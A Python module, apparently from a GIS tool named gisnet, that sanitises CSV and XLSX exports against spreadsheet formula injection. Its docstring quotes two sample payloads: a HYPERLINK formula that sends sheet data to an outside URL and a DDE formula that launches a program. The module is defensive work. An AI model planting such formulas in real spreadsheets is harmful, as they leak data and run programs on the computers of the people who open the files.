"""Spreadsheet-safe text: no value gisnet writes runs as a formula in Excel or LibreOffice.

An owner's name, an address, a column name or any other text a town's layers
hold reaches the CSV and XLSX files gisnet writes (tables, the notices'
mail-merge table, batch and findings CSVs). A spreadsheet opening such a file
runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, after a tab or
carriage return, what follows) as a formula: ``=HYPERLINK("http://...?leak="&A1,
"click")`` sends the sheet's data away, ``=cmd|' /C calc'!A0`` starts a
program (DDE). Following OWASP's guidance on CSV injection:

- in a CSV, text beginning with one of :data:`FORMULA_START` gets a leading
  apostrophe (:func:`csv_text`), which spreadsheets read as "this is text", and
  rows end in CRLF so that a carriage return inside a value is quoted
  (:func:`write_csv`);
- in an XLSX, such text is a string cell (``data_type`` ``s``, with Excel's
  quote prefix), never a formula (:func:`xlsx_row`).

Numbers stay numbers (a negative number is written as the number it is); text
that is a plain number (``-2``, ``+1.5e3``) is harmless and is kept as written.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

import pandas as pd

#: First characters that make a spreadsheet read a cell as a formula (with tab and
#: carriage return, which some strip first; the full-width forms LibreOffice folds).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula: it begins with one
    of :data:`FORMULA_START` and is not a plain number."""
    return text.startswith(FORMULA_START) and _NUMBER.fullmatch(text) is None


def csv_text(value: Any) -> Any:
    """``value`` as a CSV cell may hold it: text that could run as a formula gets a
    leading apostrophe; anything else (numbers, None, plain text) is returned as is.

    Examples
    --------
    >>> csv_text("=1+1"), csv_text("-2+3"), csv_text("-2"), csv_text(-2.5), csv_text("Main St")
    ("'=1+1", "'-2+3", '-2', -2.5, 'Main St')
    """
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` with every text cell (and column name) passed through :func:`csv_text`.

    Numeric, boolean and date columns are untouched; only columns holding text
    (object or string dtype) are looked at, and copied only when a value changes.
    """
    names = [csv_text(c) if isinstance(c, str) else c for c in df.columns]
    fixes: dict[int, pd.Series] = {}
    for i in range(df.shape[1]):
        s = df.iloc[:, i]
        if not (pd.api.types.is_object_dtype(s.dtype) or pd.api.types.is_string_dtype(s.dtype)):
            continue
        mask = s.map(lambda v: isinstance(v, str) and is_formula_like(v)).to_numpy(dtype=bool)
        if mask.any():
            fixed = s.astype(object).copy()
            fixed[mask] = ["'" + v for v in s[mask]]
            fixes[i] = fixed
    if not fixes and names == list(df.columns):
        return df
    out = df.copy(deep=False)
    for i, fixed in fixes.items():
        out.isetitem(i, fixed)  # a new column: the caller's frame is left as it was
    out.columns = names
    return out


def xlsx_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """The cells of one row for ``ws.append``: values as given, except text that
    could run as a formula (:func:`is_formula_like`), which becomes a string cell
    (``data_type`` ``s``, Excel's quote prefix set) instead of the formula openpyxl
    would otherwise make of a value starting with ``=``.

    ``ws`` is an openpyxl worksheet (write-only or not).
    """
    from openpyxl.cell import WriteOnlyCell

    row: list[Any] = []
    for v in values:
        if isinstance(v, str) and is_formula_like(v):
            cell = WriteOnlyCell(ws, value=v)
            cell.data_type = "s"
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(v)
    return row


def write_csv(df: pd.DataFrame, path: Any, **kw: Any) -> None:
    """Write ``df`` as CSV (no index) with spreadsheet-safe text (:func:`csv_safe`);
    ``kw`` goes to :meth:`pandas.DataFrame.to_csv` (``encoding`` ...).

    Rows end in CRLF (RFC 4180), so that a value holding a lone carriage return
    is quoted like one holding a line feed: unquoted, ``"x\r=1"`` would start a
    new row whose first cell is a formula.
    """
    csv_safe(pd.DataFrame(df)).to_csv(path, index=False, lineterminator="\r\n", **kw)


def xlsx_value(v: Any) -> Any:
    """A value as an XLSX cell holds it: missing -> None (an empty cell), numpy
    scalars -> Python, a date or a timestamp at midnight -> a :class:`datetime.date`
    (a date cell, ``yyyy-mm-dd``), any other timestamp -> a :class:`datetime.datetime`
    without time zone, a ``YYYY-MM-DD`` text stays text (the caller converts date
    columns it knows: :func:`write_xlsx` ``dates``)."""
    import datetime as dt

    import numpy as np

    if v is None or v is pd.NA or v is pd.NaT:
        return None
    if isinstance(v, np.generic):
        v = v.item()
    if isinstance(v, float) and v != v:
        return None
    if isinstance(v, pd.Timestamp | dt.datetime):
        t = pd.Timestamp(v)
        t = t.tz_convert(None) if t.tzinfo is not None else t
        return t.date() if t == t.normalize() else t.to_pydatetime()
    if isinstance(v, dt.date | bool | int | float | str):
        return v
    return str(v)


def write_xlsx(path: Any, sheets: Iterable[tuple[str, list[str], pd.DataFrame]], *,
               dates: Iterable[str] = ()) -> None:
    """Write an XLSX workbook of one sheet per ``(name, header, table)``.

    ``header`` is the row of labels shown (``Deadline``, ``Distance (ft)``), one per
    column of ``table``; the header row is frozen and columns sized to their text.
    Columns named in ``dates`` (and datetime columns) are written as date cells that
    Excel sorts and filters as dates (text ``YYYY-MM-DD`` is converted), never as
    text. Text a spreadsheet would run as a formula is a string cell (:func:`xlsx_row`).
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.utils import get_column_letter

    date_cols = set(dates)
    wb = Workbook(write_only=True)
    for name, header, table in sheets:
        ws = wb.create_sheet(title=name[:31])
        ws.freeze_panes = "A2"
        cols = list(table.columns)
        is_date = [c in date_cols or pd.api.types.is_datetime64_any_dtype(table[c])
                   for c in cols]
        conv = {c: pd.to_datetime(table[c], errors="coerce") for c, d in
                zip(cols, is_date, strict=True) if d}
        for i, (c, h) in enumerate(zip(cols, header, strict=True), start=1):
            width = max([len(str(h))] + [len(str(v)) for v in table[c].head(200)]) + 2
            ws.column_dimensions[get_column_letter(i)].width = min(max(width, 12), 60)
        ws.append(xlsx_row(ws, header))
        for k in range(len(table)):
            row: list[Any] = []
            for c, d in zip(cols, is_date, strict=True):
                v = xlsx_value(conv[c].iloc[k] if d else table[c].iloc[k])
                if d and v is not None:
                    cell = WriteOnlyCell(ws, value=v)
                    cell.number_format = "yyyy-mm-dd"
                    row.append(cell)
                else:
                    row.append(v)
            ws.append(xlsx_row(ws, row))
    wb.save(path)
